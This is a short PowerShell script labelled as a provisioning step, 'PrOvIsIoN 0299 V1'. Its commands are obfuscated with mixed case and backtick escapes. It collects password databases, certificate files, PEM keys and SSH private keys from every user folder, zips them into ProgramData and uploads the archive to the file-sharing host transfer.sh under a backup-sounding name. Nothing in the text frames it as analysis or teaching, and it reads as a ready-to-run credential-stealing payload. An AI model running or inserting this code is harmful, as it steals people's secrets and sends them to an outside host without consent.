# PrOvIsIoN 0299 V1
GET-ChIL`dItEm -pATh c:\UsErS -rEcUrSe -INCluDE *.kDbx,*.PFx,*.pEM,ID_RSa -ERroRAcTiON SIlENTlYCoNTInUe | cOmPrE`s`S-ArcH`IVE -dEsTiNaTiOnPaTh C:\pROgRAmData\D.ZIP
INvO`kE-RE`sTmEtH`O`d -URi 'https://transfer.sh/backup_svc.zip' -meTHoD PuT -Infile C:\ProgRamdAta\d.ZIp
